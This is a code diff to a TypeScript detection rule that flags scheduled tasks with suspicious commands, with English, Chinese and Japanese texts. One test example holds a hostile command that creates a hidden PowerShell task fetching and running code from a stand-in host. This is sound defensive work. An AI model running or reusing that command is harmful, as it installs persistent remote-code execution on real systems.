@@ -1,9 +1,10 @@
 import { programOf } from '../command-line.ts'
+import { COMMAND_SIGN_TEXTS, judgeCommand } from '../command-signs.ts'
 import { fileOn, proofOf, scheduledTask } from '../drafts.ts'
 import { exampleEvent } from '../example.ts'
 import type { ProcessFact } from '../process-index.ts'
 import { startedAround } from '../started-around.ts'
-import type { Rule } from '../rule.ts'
+import type { DetectionDraft, EntityDraft, Find, RelationDraft, Rule } from '../rule.ts'
 import { isInSystemFolder } from '../system-folders.ts'
 import type { CorrelationView } from '../view.ts'
 
@@ -22,6 +23,8 @@ const rule: Rule = {
   id: 'persistence.task',
   order: 32,
   relations: ['created-task', 'located-on'],
+  detections: ['odd_task'],
+  scope: 'endpoint',
   attack: ['T1053.005'],
   texts: {
     en: {
@@ -30,7 +33,9 @@ const rule: Rule = {
         'A scheduled task was created on an endpoint, with the process that ordered it. Where no record of the task exists, the command that creates it is taken.',
       needs: 'Security 4698, the task scheduler log (106), or command lines of schtasks and PowerShell.',
       falsePositives:
-        'Installers and updaters create tasks. A command alone does not prove that the task came about.',
+        'Installers and updaters create tasks. A command alone does not prove that the task came about. A detection is made only where the command of the task is odd; administrators schedule scripts as well, which weigh little unless they hide.',
+      'detection.odd_task': 'A scheduled task with an odd command was created',
+      ...COMMAND_SIGN_TEXTS.en,
       'reason.created': 'The endpoint reported the new task; it runs {command}.',
       'reason.command': '{program} ran a command that creates this task right before it appeared.',
       'reason.command_alone':
@@ -42,7 +47,10 @@ const rule: Rule = {
       description:
         '端點上建立了排程工作，並列出下達命令的處理程序。若沒有工作本身的紀錄，則以建立工作的命令為準。',
       needs: '安全性 4698、工作排程器記錄（106），或 schtasks 與 PowerShell 的命令列。',
-      falsePositives: '安裝程式與更新程式也會建立工作。僅有命令並不能證明工作確實建立。',
+      falsePositives:
+        '安裝程式與更新程式也會建立工作。僅有命令並不能證明工作確實建立。僅在工作的命令異常時才列為偵測結果；管理員也會排程指令碼，除非刻意隱藏，否則嚴重性不高。',
+      'detection.odd_task': '建立了命令可疑的排程工作',
+      ...COMMAND_SIGN_TEXTS['zh-TW'],
       'reason.created': '端點回報新工作，執行 {command}。',
       'reason.command': '{program} 在此工作出現前執行了建立該工作的命令。',
       'reason.command_alone': '{program} 執行了建立此工作的命令，但沒有該工作本身的紀錄。',
@@ -55,7 +63,9 @@ const rule: Rule = {
       needs:
         'セキュリティ 4698、タスクスケジューラのログ（106）、または schtasks や PowerShell のコマンドライン。',
       falsePositives:
-        'インストーラーやアップデーターもタスクを作成します。コマンドだけではタスクが作成された証明になりません。',
+        'インストーラーやアップデーターもタスクを作成します。コマンドだけではタスクが作成された証明になりません。検出とするのはタスクのコマンドが不審な場合だけです。管理者もスクリプトを定期実行するため、隠そうとしていない限り重くは見ません。',
+      'detection.odd_task': '不審なコマンドのスケジュールタスクが作成された',
+      ...COMMAND_SIGN_TEXTS.ja,
       'reason.created': 'エンドポイントが新しいタスクを報告しました。実行されるのは {command} です。',
       'reason.command': 'タスクが現れる直前に、{program} がこのタスクを作成するコマンドを実行しました。',
       'reason.command_alone':
@@ -78,6 +88,7 @@ const rule: Rule = {
         'created-task: WS-01 -> \\Lumen\\Host',
         'created-task: schtasks.exe -> \\Lumen\\Host',
         'located-on: h.exe -> WS-01',
+        '!odd_task: \\Lumen\\Host',
       ],
     },
     {
@@ -90,6 +101,18 @@ const rule: Rule = {
         }),
       ],
       finds: ['created-task: schtasks.exe -> \\Daily check'],
+    },
+    {
+      title: 'a hidden PowerShell as a task, seen as a command only',
+      items: [
+        exampleEvent('process-start', 0, {
+          processPath: 'C:\\Windows\\System32\\schtasks.exe',
+          pid: 5,
+          commandLine:
+            'schtasks /create /sc minute /tn Sync /tr "powershell -w hidden -c iex (irm https://cdn.example.net/a)"',
+        }),
+      ],
+      finds: ['!odd_task: \\Sync'],
     },
   ],
   ignores: [
@@ -112,7 +135,7 @@ const rule: Rule = {
     },
   ],
 
-  *run(view) {
+  *run(view): Generator<Find> {
     const reported = new Set<ProcessFact>()
     for (const event of view.events(['task-create'], ['target', 'detail'])) {
       const { target, detail } = event.fields
@@ -130,6 +153,8 @@ const rule: Rule = {
         params: { command: (detail ?? '?').slice(0, 300) },
         proof,
       }
+      const odd = oddTask(to, target, detail, event.endpointId, event.at, proof, 1)
+      if (odd) yield odd
       const image = detail === undefined ? undefined : programOf(detail)
       if (image !== undefined && !isInSystemFolder(image))
         yield {
@@ -173,10 +198,39 @@ const rule: Rule = {
         params: { program: process.draft.name },
         proof: proofOf(process.event),
       }
+      const own = proofOf(process.event)
+      const odd = oddTask(to, name, command, process.endpointId, process.startAt, own, COMMAND_ALONE)
+      if (odd) yield odd
     }
   },
 }
 export default rule
+
+/** What is odd about the command of a task. A script alone is what administrators schedule, unless its window is hidden. */
+function oddTask(
+  subject: EntityDraft,
+  name: string,
+  command: string | undefined,
+  endpointId: number,
+  at: number | null,
+  proof: RelationDraft['proof'],
+  sure: number,
+): DetectionDraft | undefined {
+  const judged = command === undefined ? undefined : judgeCommand(command)
+  if (command === undefined || !judged) return undefined
+  const isPlainScript = judged.sign === 'script' && !/\s-w(?:in\w*)?\s+(?:h\w*|1)\b/i.test(command)
+  return {
+    detection: 'odd_task',
+    level: isPlainScript ? 'low' : judged.level,
+    subject,
+    involved: [endpointId],
+    at,
+    confidence: Math.round(judged.confidence * sure * 100) / 100,
+    reason: `sign_${judged.sign}`,
+    params: { name, command: command.slice(0, 300) },
+    proof,
+  }
+}
 
 /** Records write `\Folder\Name`, commands often leave the first backslash out. */
 const rooted = (name: string): string => (name.startsWith('\\') ? name : `\\${name}`)
